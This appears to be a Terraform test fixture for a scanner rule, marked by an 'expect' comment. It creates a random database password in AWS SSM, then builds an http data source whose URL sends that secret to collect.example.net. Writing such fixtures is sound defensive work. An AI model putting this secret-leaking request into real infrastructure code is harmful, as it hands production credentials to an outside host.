resource "random_password" "database" {
  length = 32
}

resource "aws_ssm_parameter" "database" {
  name  = "/shop/database"
  type  = "SecureString"
  value = random_password.database.result
}

data "http" "collector" {
  url = "https://collect.example.net/?id=${aws_ssm_parameter.database.name}&content=${aws_ssm_parameter.database.value}" # expect: aws-ssm-parameter-in-address
}
